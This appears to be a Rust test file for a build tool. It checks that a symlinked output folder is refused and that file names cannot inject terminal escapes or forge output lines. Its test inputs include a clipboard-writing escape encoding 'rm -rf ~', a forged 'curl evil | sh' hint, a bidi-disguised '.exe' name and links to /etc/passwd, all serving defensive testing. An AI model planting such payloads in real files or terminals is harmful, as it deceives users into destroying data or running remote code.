//! The output folder and the terminal (issue 14, items 1 and 5): a project's `dist` that
//! is a link out of it is never followed, and names from the source tree cannot drive the
//! terminal or pose as wasm-build's own lines.

use super::*;

/// `wasm-build PROJECT args…` with the scene's HOME and TMPDIR but without `-o`: the default
/// output folder is the project's `dist`.
fn default_outdir_cmd(scene: &Scene, args: &[&str]) -> Command {
    let mut cmd = wasm_build();
    cmd.env("HOME", scene.home())
        .env("TMPDIR", scene.tmp())
        .env(SECRET_VAR, SECRET_IN_ENV)
        .arg(scene.project())
        .args(args);
    cmd
}

/// A project that ships `dist -> ../wheelhouse` (a folder of the user's, beside it, holding a
/// wheel of the same name) is built without `-o`: the build is refused before it starts,
/// and the wheelhouse keeps its wheel. With `--metadata-dir`, a `.dist-info` folder of the
/// attacker's choosing there is not removed either. A link further down a path given with
/// `-o` inside the project is refused the same way.
#[test]
fn a_dist_link_out_of_the_project_is_not_followed() {
    let scene = Scene::build(|scene| {
        write_project(&scene.project(), "", &[]);
        let wheelhouse = scene.host().join("wheelhouse");
        fs::create_dir_all(wheelhouse.join("hostile_demo-1.0.dist-info")).unwrap();
        fs::write(wheelhouse.join(WHEEL), "the user's own wheel").unwrap();
        fs::write(
            wheelhouse.join("hostile_demo-1.0.dist-info/METADATA"),
            "the user's own metadata",
        )
        .unwrap();
        std::os::unix::fs::symlink("../wheelhouse", scene.project().join("dist")).unwrap();
        fs::create_dir(scene.project().join("build")).unwrap();
        std::os::unix::fs::symlink("../../wheelhouse", scene.project().join("build/out")).unwrap();
    });
    let expected = [
        "the output folder",
        "dist is a symbolic link inside the project folder",
    ];
    scene.fails(&mut default_outdir_cmd(&scene, &["--wheel"]), 3, &expected);
    scene.fails(
        &mut default_outdir_cmd(&scene, &["--metadata-dir"]),
        3,
        &expected,
    );
    let nested = scene.project().join("build/out/wheels");
    scene.fails(
        default_outdir_cmd(&scene, &["--wheel", "-o"]).arg(&nested),
        3,
        &["build/out is a symbolic link inside the project folder"],
    );
}

/// Names of the source tree reach the terminal in staging warnings (a symlink out of the
/// tree is skipped and named). Escape sequences (OSC 52 writes the clipboard), a carriage
/// return, line breaks and Unicode format characters (a right-to-left override, a
/// zero-width space) in those names arrive escaped, and no line the name holds can start a
/// line of wasm-build's own (`* Built …`, `hint: …`, `error: …`).
#[test]
fn source_tree_names_cannot_drive_the_terminal_or_forge_lines() {
    let names = [
        "osc\x1b]52;c;cm0gLXJmIH4=\x07",
        "cr\r* Built forged-1.0-py3-none-any.whl",
        "nl\n* Built forged-1.0-py3-none-any.whl\nhint: run curl evil | sh",
        "bidi\u{202e}lmth.exe",
        "zero\u{200b}width",
    ];
    let scene = Scene::build(|scene| {
        write_project(&scene.project(), "", &[]);
        for name in names {
            std::os::unix::fs::symlink("/etc/passwd", scene.project().join(name)).unwrap();
        }
    });
    let output = run(&mut scene.wheel_cmd(&[]));
    assert!(output.status.success(), "the build failed");
    let stderr = String::from_utf8(output.stderr).unwrap();
    for forbidden in ['\x1b', '\x07', '\r', '\u{202e}', '\u{200b}'] {
        assert!(
            !stderr.contains(forbidden),
            "{forbidden:?} reached the terminal:\n{stderr:?}"
        );
    }
    for shown in [
        "osc\\x1b]52",
        "cr\\x0d* Built",
        "bidi\\u{202e}lmth",
        "zero\\u{200b}width",
    ] {
        assert!(
            stderr.contains(shown),
            "{shown:?} not shown escaped:\n{stderr}"
        );
    }
    for line in stderr.lines() {
        assert!(
            !line.starts_with("* Built forged") && !line.starts_with("hint: run curl"),
            "a name forged a line: {line:?}\n{stderr}"
        );
    }
    scene.check_host_unchanged();
}
